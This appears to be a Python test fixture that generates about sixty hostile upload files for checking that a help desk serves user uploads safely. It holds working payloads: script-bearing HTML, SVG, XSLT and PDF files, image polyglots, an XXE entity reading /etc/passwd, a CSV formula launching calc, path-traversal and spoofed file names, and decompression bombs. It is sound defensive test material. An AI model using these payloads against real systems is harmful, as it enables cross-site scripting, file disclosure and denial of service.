"""Sixty files whose senders hope that a browser runs something in them, on the help desk's origin.

Each one that can run at all would ask for ``/ran-hostile``, set a cookie and a word in the page's
store, and open a dialog.
"""

import gzip
import io
import struct
import zipfile
import zlib

from PIL import Image

RAN = "ran-hostile"
SCRIPT = (
    f"fetch('/{RAN}');new Image().src='/{RAN}';document.cookie='{RAN}=1';"
    f"localStorage.setItem('{RAN}','1');window.ran=1;alert(1);"
)
_HTML = f'<!doctype html><script>{SCRIPT}</script><img src=x onerror="{SCRIPT}">'
_SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script>'
    f'<foreignObject><iframe srcdoc="&lt;script>{SCRIPT}&lt;/script>"/></foreignObject></svg>'
)
_XHTML = (
    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">'
    f"<script>{SCRIPT}</script></html>"
)
_XSLT = (
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?>'
    '<xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    f'<xsl:template match="/"><script>{SCRIPT}</script></xsl:template></xsl:stylesheet>'
)
_PDF = (
    "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS("
    f"app.alert(1);{SCRIPT})>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    "trailer<</Root 1 0 R>>\n%%EOF"
)


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def _png(width: int, height: int, pixels: bytes, *more: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = _chunk(b"IDAT", zlib.compress(pixels, 9)) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + b"".join(more) + body


def _picture(kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(out, kind, **options)  # type: ignore[arg-type]
    return out.getvalue()


def _zip(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return out.getvalue()


def _texts() -> list[tuple[str, bytes]]:
    html, svg, xhtml = _HTML.encode(), _SVG.encode(), _XHTML.encode()
    script = SCRIPT.encode()
    return [
        ("page.html", html),
        ("page.htm", b"\xef\xbb\xbf" + html),
        ("page.HTML", b" " * 600 + html),
        ("page.shtml", b"<!--#exec cmd='id' -->" + html),
        ("utf16.html", _HTML.encode("utf-16")),
        ("utf7.html", b"+ADw-script+AD4-" + script + b"+ADw-/script+AD4-"),
        ("iso2022.html", b"\x1b$B" + html),
        ("page.mht", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + html),
        ("page.eml", b"Content-Type: text/html\r\n\r\n" + html),
        ("page.xhtml", xhtml),
        ("page.xht", xhtml),
        ("page.xml", xhtml),
        ("style.xsl", _XSLT.encode()),
        ("entity.xml", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
        ("feed.rss", b"<rss><channel><title>" + html + b"</title></channel></rss>"),
        ("math.mml", b"<math href='javascript:alert(1)'>x</math>" + html),
        ("pic.svg", svg),
        ("pic.svgz", gzip.compress(svg)),
        ("pic.svg.png", svg),
        ("pic.jpg", svg),
        ("pic.gif", html),
        ("pic.webp", html),
        ("pic.png", html),
        ("app.js", script),
        ("app.mjs", b"export default 1;" + script),
        ("worker.js", b"self.onfetch=e=>e.respondWith(new Response(1));" + script),
        ("data.json", b'{"a":"</script><script>' + script + b'"}'),
        ("jsonp.json", b"callback(" + script + b")"),
        ("style.css", b"@import '//evil.example/x';body{background:url('/ran-hostile')}"),
        ("manifest.webmanifest", b'{"start_url":"/ran-hostile"}'),
        ("cross.swf", b"FWS\x09" + html),
        ("applet.jar", _zip("META-INF/MANIFEST.MF", b"Main-Class: X")),
        (
            "policy.xml",
            b'<cross-domain-policy><allow-access-from domain="*"/></cross-domain-policy>',
        ),
        ("link.url", b"[InternetShortcut]\r\nURL=javascript:alert(1)"),
        ("cal.ics", b"BEGIN:VCALENDAR\r\nURL:javascript:alert(1)\r\nEND:VCALENDAR"),
        ("sheet.csv", b'=cmd|"/c calc"!A1,"<script>' + script + b'</script>"'),
        ("script.hta", html),
        ("doc.pdf", _PDF.encode()),
        ("page.pdf", html),
        ("pdf.html", b"%PDF-1.7\n" + html),
    ]


def _names() -> list[tuple[str, bytes]]:
    html = _HTML.encode()
    return [
        ("../../x", html),
        ("..\\..\\x.html", html),
        ("/etc/passwd", html),
        ("con.aux", html),
        ("NUL", html),
        ("photo\u202egnp.html", html),
        ("a\u200b\u2066.html", html),
        ('"><img src=x onerror=alert(1)>.html', html),
        ("a'; filename=b.html", html),
        ("{{7+7}}.html", html),
        ("%2e%2e%2fx.html", html),
        (".htaccess", b"AddType text/html .txt"),
        ("n" * 300 + ".html", html),
        ("x.html ", html),
    ]


def _pictures() -> list[tuple[str, bytes]]:
    html = _HTML.encode()
    png, gif, jpeg, webp = (_picture(kind) for kind in ("png", "gif", "jpeg", "webp"))
    text = _chunk(b"tEXt", b"Comment\0" + html)
    return [
        ("behind.png", png + html),
        ("inside.png", _png(1, 1, b"\0abc", text)),
        ("behind.gif", gif + html),
        ("script.gif", b"GIF89a=1;" + SCRIPT.encode() + b"//" + gif[6:]),
        ("comment.jpg", _picture("jpeg", comment=html)),
        ("behind.webp", webp + html),
        ("archive.jpg", jpeg + _zip("x.html", html)),
        ("half.png", png[: len(png) // 2]),
        ("huge.png", _png(65_535, 65_535, b"")),
        ("bomb.png", _png(7_000, 7_000, bytes((3 * 7_000 + 1) * 7_000))),
        ("bomb.zip", _zip("x", bytes(20_000_000))),
    ]


FILES: list[tuple[str, bytes]] = [*_texts(), *_names(), *_pictures()]
"""Name as it is sent, and content."""
